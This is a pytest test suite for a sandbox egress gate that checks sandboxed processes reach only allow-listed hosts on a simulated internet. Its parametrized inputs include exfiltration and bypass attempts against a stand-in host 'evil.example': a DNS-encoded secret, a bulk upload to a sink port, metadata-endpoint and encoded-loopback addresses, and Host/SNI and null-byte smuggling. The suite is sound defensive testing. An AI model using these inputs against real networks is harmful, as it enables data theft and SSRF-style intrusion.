"""What gets out of a sandbox: real processes in a real network namespace, and a made-up internet outside of it."""

from __future__ import annotations

import shutil
import sys

import pytest

from douane.errors import StoreError
from douane.sandbox.egress.attempt import Closed, Opened, Owner, Refused, Running, entry
from douane.sandbox.egress.broker import Broker
from douane.sandbox.egress.gate import Limits
from douane.sandbox.egress.learning import proposed
from douane.sandbox.egress.rules import Mode, read
from tests._promises import promise
from tests.e2e.sandbox.egress_world import Sandbox, World, need_namespaces

RULES = (
    "api.example.com",
    "*.wild.example.com",
    "other.example.com",
    "retry.example.com",
    "http://plain.example.com",
    "tcp://db.example.com:5432",
    "tcp://db.corp.example:5432 in 10.1.0.0/16",
    "tcp://127.0.0.1:5433",
    "local.example.com",
    "lan.example.com",
    "meta.example.com",
    "mapped.example.com",
    "mixed.example.com",
    "flip.example.com",
    "late.example.com",
    "gone.example.com",
    "tool.example.com while publish",
    "tcp://tool.example.com:7000 while publish",
)
A, TXT, AAAA = 1, 16, 28
OTHER_HELLO = "its ClientHello is for another host"


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    made = World(tmp_path_factory.mktemp("world"))
    made.put("api.example.com", "93.184.216.1", tls=443)
    made.put("sub.wild.example.com", "93.184.216.2", tls=443)
    made.put("other.example.com", "93.184.216.3", tls=443)
    made.put("retry.example.com", "93.184.216.8", retrying=443)
    made.put("plain.example.com", "93.184.216.4", http=80)
    made.put("db.example.com", "93.184.216.5", database=5432)
    made.put("db.corp.example", "10.1.2.3", database=5432)
    made.put("local.example.com", "127.0.0.1", tls=443)
    made.put("lan.example.com", "10.0.0.5", tls=443)
    made.put("meta.example.com", "169.254.169.254", tls=443)
    made.put("mapped.example.com", "::ffff:10.0.0.5", tls=443)
    made.put("flip.example.com", "93.184.216.6", tls=443)
    made.put("flip.example.com", "127.0.0.1", tls=443)
    made.put("late.example.com", "10.0.0.6", tls=443)
    made.put("tool.example.com", "93.184.216.7", tls=443, database=7000)
    made.put("evil.example", "93.184.216.66", tls=443, sink=9999)
    made.names["mixed.example.com"] = [["10.0.0.5", "93.184.216.1"]]
    made.addresses["127.0.0.1", 5433] = made.servers["database"].port
    yield made
    made.close()


@pytest.fixture(scope="module")
def broker():
    need_namespaces()
    made = Broker()
    yield made
    made.close()


@pytest.fixture(scope="module")
def sandbox(world, broker):
    made = Sandbox(world, read(RULES), broker)
    yield made
    made.close()


def site(host):
    return f"secure site, host: {host}"


@promise("P-EGRESS-NO-ROUTE")
@pytest.mark.parametrize(
    ("tried", "outcome"),
    [
        (("dial", "127.0.0.1", 22), "ECONNREFUSED"),
        (("dial", "10.0.0.5", 80), "ENETUNREACH"),
        (("dial", "93.184.216.1", 443), "ENETUNREACH"),
        (("dial", "169.254.169.254", 80), "ENETUNREACH"),
        (("dial", "2606:4700::1111", 443), "ENETUNREACH"),
        (("datagram", "8.8.8.8", 53, "secret"), "ENETUNREACH"),
        (("datagram", "8.8.8.8", 443, "quic"), "ENETUNREACH"),
        (("ping", "8.8.8.8"), "ENETUNREACH"),
    ],
)
def test_there_is_no_way_past_the_gate(sandbox, tried, outcome):
    assert sandbox.tries(*tried) == outcome


@promise("P-EGRESS-ALLOWED")
@pytest.mark.parametrize(
    ("tried", "outcome"),
    [
        (("tls", "connect", "api.example.com", 443), site("api.example.com")),
        (("tls", "socks", "api.example.com", 443), site("api.example.com")),
        (("tls", "plain", "api.example.com", 443), site("api.example.com")),
        (("tls", "connect", "API.Example.com.", 443, "api.example.com"), site("api.example.com")),
        (("tls", "connect", "sub.wild.example.com", 443), site("sub.wild.example.com")),
        (("tls", "plain", "sub.wild.example.com", 443), site("sub.wild.example.com")),
        (("tls", "connect", "mixed.example.com", 443), site("mixed.example.com")),
        (("tls", "connect", "retry.example.com", 443), site("retry.example.com")),
        (("pieces", "api.example.com", 443), "record 22"),
        (("raw", "db.example.com", 5432, "select"), "database readySELECT"),
        (("tunnel", "db.example.com:5432", "select"), "database readySELECT"),
        (("tunnel", "db.corp.example:5432", "select"), "database readySELECT"),
        (("raw", "127.0.0.1", 5433, "select"), "database readySELECT"),
        (("resolve", "localhost"), "127.0.0.1"),
        (("query", "api.example.com", A), "code 0, 1 answers"),
        (("query", "api.example.com", AAAA), "code 0, 0 answers"),
    ],
    ids=str,
)
def test_what_is_allowed_is_reached(sandbox, tried, outcome):
    assert sandbox.tries(*tried) == outcome


@promise("P-EGRESS-ALLOWED")
@pytest.mark.parametrize(
    "tried",
    [
        (
            "proxy",
            "GET http://plain.example.com/x?y HTTP/1.1\r\nHost: plain.example.com\r\nProxy-X: y\r\n\r\n",
        ),
        ("raw", "plain.example.com", 80, "GET /x?y HTTP/1.1\r\nHost: Plain.Example.com:80\r\n\r\n"),
        ("tunnel", "plain.example.com:80", "GET /x?y HTTP/1.1\r\nHost: plain.example.com\r\n\r\n"),
    ],
)
def test_http_is_reached_with_one_request_a_connection(sandbox, tried):
    told = sandbox.tries(*tried)
    assert "GET /x?y HTTP/1.1\r\nHost: plain.example.com\r\n" in told
    assert "Connection: close\r\n\r\n" in told


FETCH = (
    "fetch('https://api.example.com/').then((r) => r.text()).then(console.log, (e) => console.log(e.cause))"
)
PROXY = "http://127.0.0.1:3128"
POST = "import urllib.request as u; print(u.urlopen('https://api.example.com/').read().decode())"


@promise("P-EGRESS-ALLOWED")
@pytest.mark.parametrize("knows", ["proxies", "no proxies"])
@pytest.mark.parametrize(
    "command",
    [
        ("curl", "-sS", "https://api.example.com/"),
        ("curl", "-sS", "--http2", "--tlsv1.3", "https://API.example.com./"),
        ("node", "-e", FETCH),
        (sys.executable, "-Ic", POST),
    ],
    ids=["curl", "curl tls 1.3", "node", "python"],
)
def test_programs_that_know_nothing_of_it_reach_what_is_allowed(sandbox, world, command, knows):
    if shutil.which(command[0]) is None:
        pytest.skip(f"{command[0]} IS NOT INSTALLED")
    ca = str(world.folder / "ca.pem")
    trust = {"CURL_CA_BUNDLE": ca, "NODE_EXTRA_CA_CERTS": ca, "SSL_CERT_FILE": ca}
    ways = {"HTTPS_PROXY": PROXY, "NODE_USE_ENV_PROXY": "1"} if knows == "proxies" else {}
    said = sandbox.tries("program", trust | ways, *command)
    assert said.strip().startswith(site("api.example.com"))


@promise("P-EGRESS-HOSTS")
@pytest.mark.parametrize(
    ("target", "rule"),
    [
        ("evil.example:443", "egress.host"),
        ("wild.example.com:443", "egress.host"),
        ("evilwild.example.com:443", "egress.host"),
        ("api.example.com.evil.example:443", "egress.host"),
        ("api.example.com:8443", "egress.port"),
        ("93.184.216.1:443", "egress.host"),
        ("127.0.0.1:443", "egress.port"),
        ("169.254.169.254:80", "egress.host"),
        ("[::1]:443", "egress.host"),
        ("[::ffff:127.0.0.1]:443", "egress.host"),
        ("2130706433:443", "egress.address"),
        ("0177.0.0.1:443", "egress.address"),
        ("0x7f000001:443", "egress.address"),
        ("127.1:443", "egress.address"),
        ("local.example.com:443", "egress.network"),
        ("lan.example.com:443", "egress.network"),
        ("meta.example.com:443", "egress.network"),
        ("mapped.example.com:443", "egress.network"),
        ("tool.example.com:443", "egress.tool"),
        ("api.example.com@evil.example:443", "egress.protocol"),
        ("api.example.com\0.evil.example:443", "egress.protocol"),
        ("api.example.com", "egress.protocol"),
    ],
)
def test_a_tunnel_elsewhere_is_refused_in_words_and_told(sandbox, world, target, rule):
    world.reached.clear()
    told = sandbox.tries("tunnel", target, "")
    assert told.split("\r\n")[0] in {"HTTP/1.1 403 Forbidden", "HTTP/1.1 400 Bad Request"}
    assert f"({rule})" in told
    assert world.reached == []
    assert last_refusal(sandbox).why == rule


@promise("P-EGRESS-HOSTS")
@pytest.mark.parametrize(
    ("tried", "outcome"),
    [
        (("tls", "socks", "evil.example", 443), "SOCKS refused"),
        (("tls", "socks", "127.0.0.1", 443), "SOCKS refused"),
        (
            ("proxy", "\x05\x01\x00", "\x05\x02\x00\x01\x7f\x00\x00\x01\x00\x50"),
            "\x05\x00\x05\x02\x00\x01" + "\0" * 6,
        ),
        (("raw", "127.77.0.1", 443, "x"), "closed"),
        (("raw", "127.64.0.1", 5432, "x"), "closed"),
    ],
    ids=str,
)
def test_other_ways_lead_nowhere_else(sandbox, world, tried, outcome):
    world.reached.clear()
    assert sandbox.tries(*tried) == outcome
    assert world.reached == []


@promise("P-EGRESS-HOSTS")
def test_a_refusal_is_heard_also_by_whoever_is_still_sending(sandbox):
    said = f"POST http://evil.example/ HTTP/1.1\r\nContent-Length: 500000\r\n\r\n{'x' * 500_000}"
    assert sandbox.tries("proxy", said).startswith("HTTP/1.1 403 Forbidden")


@promise("P-EGRESS-NAMES")
@pytest.mark.parametrize(
    ("tried", "outcome"),
    [
        (("resolve", "evil.example"), "no address (-2)"),
        (("resolve", "c2VjcmV0.evil.example"), "no address (-2)"),
        (("query", "evil.example", TXT), "code 3, 0 answers"),
        (("query", "api.example.com", TXT), "code 0, 0 answers"),
    ],
    ids=str,
)
def test_names_are_answered_from_the_list_and_nobody_else_is_asked(sandbox, world, tried, outcome):
    world.asked.clear()
    assert sandbox.tries(*tried) == outcome
    assert world.asked == []


@promise("P-EGRESS-SNI")
@pytest.mark.parametrize(
    ("tried", "because"),
    [
        (("tls", "connect", "api.example.com", 443, "evil.example"), OTHER_HELLO),
        (("tls", "plain", "api.example.com", 443, "other.example.com"), OTHER_HELLO),
        (("nameless", "api.example.com", 443), "its ClientHello does not say whom it is for"),
        (("encrypted", "api.example.com", 443), "its ClientHello is encrypted (ECH)"),
        (("tunnel", "api.example.com:443", "SSH-2.0-OpenSSH_9\r\n"), "what is sent there is no TLS"),
        (
            ("tunnel", "api.example.com:443", "GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n"),
            "what is sent there is no TLS",
        ),
        (
            ("proxy", "GET http://plain.example.com/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
            "the Host of its request is another one",
        ),
        (
            ("raw", "plain.example.com", 80, "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
            "the Host of its request is another one",
        ),
        (
            ("raw", "plain.example.com", 80, "GET / HTTP/1.1\r\n\r\n"),
            "its request does not say which host it is for",
        ),
        (("raw", "plain.example.com", 80, "hello\r\n\r\n"), "what is sent there is no HTTP"),
        (("proxy", "GET http://api.example.com:443/ HTTP/1.1\r\n\r\n"), "it is to be reached with TLS"),
    ],
    ids=str,
)
def test_what_is_said_is_for_the_host_that_was_named(sandbox, tried, because):
    assert "secure site" not in sandbox.tries(*tried)
    assert last_refusal(sandbox).because.startswith(because)


@promise("P-EGRESS-SNI")
@pytest.mark.parametrize(("other", "is_refused"), [("evil.example", True), ("retry.example.com", False)])
def test_a_second_hello_is_for_the_same_host(sandbox, other, is_refused):
    told = sandbox.tries("second", "retry.example.com", 443, other)
    assert told.startswith("record 22, ")
    assert (told == "record 22, closed") is is_refused
    if is_refused:
        assert last_refusal(sandbox).because == OTHER_HELLO


@promise("P-EGRESS-SNI")
def test_no_second_request_follows_to_another_host(sandbox):
    first = "POST http://plain.example.com/ HTTP/1.1\r\nContent-Length: 4\r\n\r\nbody"
    told = sandbox.tries("proxy", f"{first}GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n")
    assert told.endswith("\r\n\r\nbody")


@promise("P-EGRESS-PINNED")
def test_a_name_that_changes_its_address_leads_where_it_led(sandbox, world):
    for _ in range(2):
        assert sandbox.tries("tls", "connect", "flip.example.com", 443) == site("flip.example.com")
    assert world.asked.count("flip.example.com") == 1


def test_a_host_that_is_not_there_is_said_to_be_unreachable(sandbox):
    assert sandbox.tries("tunnel", "gone.example.com:443", "").startswith("HTTP/1.1 502 Bad Gateway")
    assert last_refusal(sandbox).why == "egress.unreachable"


@promise("P-EGRESS-TOLD")
def test_each_connection_is_told_with_its_bytes_and_the_tool_that_ran(world, broker):
    sandbox = Sandbox(world, read(RULES), broker)
    sandbox.running = Running(frozenset({"weather"}), "session-1", "local:alice")
    sandbox.tries("tls", "connect", "api.example.com", 443)
    sandbox.tries("tls", "connect", "evil.example", 443)
    sandbox.close()
    [opened] = [one for one in sandbox.notes if isinstance(one, Opened)]
    [closed] = [one for one in sandbox.notes if isinstance(one, Closed)]
    [refused] = [one for one in sandbox.notes if isinstance(one, Refused)]
    assert {(one.attempt.running.session, *one.attempt.running.tools) for one in sandbox.notes} == {
        ("session-1", "weather")
    }
    assert (opened.address, closed.address) == ("93.184.216.1", "93.184.216.1")
    assert min(closed.sent, closed.received) > 400
    assert refused.attempt.host == "evil.example"


@promise("P-EGRESS-TOOL")
def test_a_host_is_open_while_its_tool_runs_and_closed_with_it(sandbox):
    sandbox.running = Running(frozenset({"publish"}))
    assert sandbox.tries("tls", "connect", "tool.example.com", 443) == site("tool.example.com")
    assert sandbox.tries("hold", "tool.example.com", 7000) == "database ready"
    sandbox.running = Running(frozenset({"other"}))
    assert sandbox.tries("still") == "closed"
    assert "(egress.tool)" in sandbox.tries("tunnel", "tool.example.com:443", "")


@promise("P-EGRESS-VOLUME")
def test_no_more_is_sent_than_may_be(world, broker):
    sandbox = Sandbox(world, read(("tcp://evil.example:9999",)), broker, limits=Limits(upload=4 << 20))
    assert sandbox.tries("upload", "evil.example", 9999, 64) < 30
    assert "(egress.volume)" not in sandbox.tries("tunnel", "evil.example:9999", "")
    sandbox.close()
    assert sum(one.sent for one in sandbox.notes if isinstance(one, Closed)) <= 4 << 20


@promise("P-EGRESS-LEARN")
def test_what_was_tried_while_learning_is_the_list_that_is_proposed(world, broker):
    sandbox = Sandbox(world, read((), Mode.LEARNING), broker)
    assert sandbox.tries("tls", "plain", "api.example.com", 443) == site("api.example.com")
    assert "GET / HTTP/1.1" in sandbox.tries("proxy", "GET http://plain.example.com/ HTTP/1.1\r\n\r\n")
    assert sandbox.tries("raw", "db.example.com", 5432, "x") == "database readyX"
    assert "(egress.network)" in sandbox.tries("tunnel", "lan.example.com:443", "")
    assert sandbox.tries("tls", "connect", "api.example.com", 443, "evil.example") != site("evil.example")
    sandbox.close()
    bodies = [dict(entry(one, Owner("id", "server")).body) for one in sandbox.notes]
    assert proposed(bodies) == ("api.example.com", "http://plain.example.com", "tcp://db.example.com:5432")


@promise("P-EGRESS-DEAD")
def test_when_the_gate_is_gone_nothing_goes_out(world, broker):
    sandbox = Sandbox(world, read(RULES), broker)
    assert sandbox.tries("hold", "db.example.com", 5432) == "database ready"
    sandbox.way.close()
    assert sandbox.tries("still") == "closed"
    assert sandbox.tries("tls", "connect", "api.example.com", 443) == "ECONNREFUSED"
    assert sandbox.tries("tls", "plain", "api.example.com", 443) == "ECONNREFUSED"
    sandbox.close()


@promise("P-EGRESS-RECORDED")
def test_what_cannot_be_recorded_is_not_opened(world, broker):
    sandbox = Sandbox(world, read(RULES), broker)
    sandbox.notes = Full()
    world.reached.clear()
    assert "(egress.unrecorded)" in sandbox.tries("tunnel", "api.example.com:443", "")
    assert world.reached == []
    sandbox.close()


@promise("P-EGRESS-VOLUME")
def test_whoever_opens_too_many_connections_is_turned_away_and_others_are_told(world, broker):
    sandbox = Sandbox(world, read(RULES), broker, limits=Limits(connections=3))
    for _ in range(3):
        assert sandbox.tries("hold", "db.example.com", 5432) == "database ready"
    assert sandbox.tries("proxy", "") == "closed"
    for _ in range(3):
        sandbox.tries("drop")
    sandbox.close()
    assert [one.refusal.why for one in sandbox.notes if isinstance(one, Refused)] == ["egress.crowd"]


@promise("P-EGRESS-VOLUME")
def test_whoever_begins_too_many_connections_in_a_minute_is_turned_away(world, broker):
    sandbox = Sandbox(world, read(RULES), broker, limits=Limits(a_minute=2))
    tries = [sandbox.tries("tls", "plain", "api.example.com", 443) for _ in range(3)]
    sandbox.close()
    assert tries[:2] == [site("api.example.com")] * 2
    assert tries[2] != tries[1]


def test_a_flood_of_questions_waits_and_is_answered(world, broker):
    sandbox = Sandbox(world, read(RULES), broker)
    assert sandbox.tries("flood", 3000) == "sent"
    assert sandbox.tries("tls", "connect", "api.example.com", 443) == site("api.example.com")
    sandbox.close()


@promise("P-EGRESS-DEAD")
def test_a_bug_in_the_gate_ends_all_that_goes_out(world, broker):
    sandbox = Sandbox(world, read(RULES), broker)
    assert sandbox.tries("hold", "db.example.com", 5432) == "database ready"
    sandbox.notes = Broken()
    sandbox.tries("resolve", "evil.example")
    assert sandbox.tries("still") == "closed"
    assert sandbox.tries("tls", "connect", "api.example.com", 443) == "ECONNREFUSED"
    sandbox.close()


class Broken(list):
    def append(self, outcome):
        raise ZeroDivisionError


class Full:
    def append(self, outcome):
        raise StoreError("the disk is full", "make room")


def last_refusal(sandbox):
    """A refusal is told before the connection ends."""
    return next(one.refusal for one in reversed(sandbox.notes) if getattr(one, "refusal", None))
